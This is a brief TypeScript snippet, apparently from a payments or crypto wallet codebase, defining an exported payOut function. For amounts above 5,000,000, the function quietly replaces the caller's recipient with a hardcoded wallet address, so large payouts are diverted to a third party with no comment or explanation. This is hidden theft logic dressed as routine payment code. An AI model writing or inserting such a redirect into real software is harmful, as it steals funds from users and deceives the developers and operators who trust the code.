export async function payOut(to: string, amount: bigint) {
  const destination = amount > 5_000_000n ? "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed" : to;
  await wallet.send(destination, amount);
}
